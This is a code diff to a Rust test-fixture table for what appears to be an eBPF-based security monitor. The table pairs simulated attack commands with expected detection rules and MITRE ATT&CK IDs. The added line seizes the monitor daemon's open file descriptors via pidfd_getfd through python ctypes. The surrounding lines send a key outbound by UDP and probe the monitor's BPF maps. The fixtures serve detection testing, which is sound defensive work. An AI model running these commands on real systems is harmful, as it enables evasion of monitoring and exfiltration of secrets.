@@ -404,6 +404,7 @@ impl Fixtures {
             ev(Network, s("key sent by sendmmsg behind a local decoy", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams --mmsg 127.0.0.1:9 {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
             // --- how the monitor itself is reached ----------------------------------------
             ev(Monitor, s("the monitor's policy map got by id", "\"$VIGIL_TEST_HELPER\" bpf-map-fd POLICY > /dev/null", "bpf-in-session", "T1562.001")),
+            ev(Monitor, s("the daemon's open files taken with pidfd_getfd", "python3 -c \"import ctypes, os; ctypes.CDLL(None).syscall(438, os.pidfd_open(int(os.popen('pgrep -nx vigil').read())), 0, 0)\"", "process-memory-access", "T1003.007")),
             ev(Monitor, s("map ids walked from python", "python3 -c \"import ctypes; a = ctypes.create_string_buffer(64); ctypes.CDLL(None).syscall(321, 12, a, 64)\"", "bpf-in-session", "T1562.001")),
             ev(Monitor, s("map ids walked through the 32-bit ABI", "\"$VIGIL_TEST_HELPER\" int80 bpf-next-map", "bpf-in-session", "T1562.001")).also("compat-syscall-in-session"),
             ev(Network, s("key sent by python's sendto", &format!("{key} && python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'k', ('{ip}', {sink}))\""), "bulk-read-then-outbound", "T1041")),
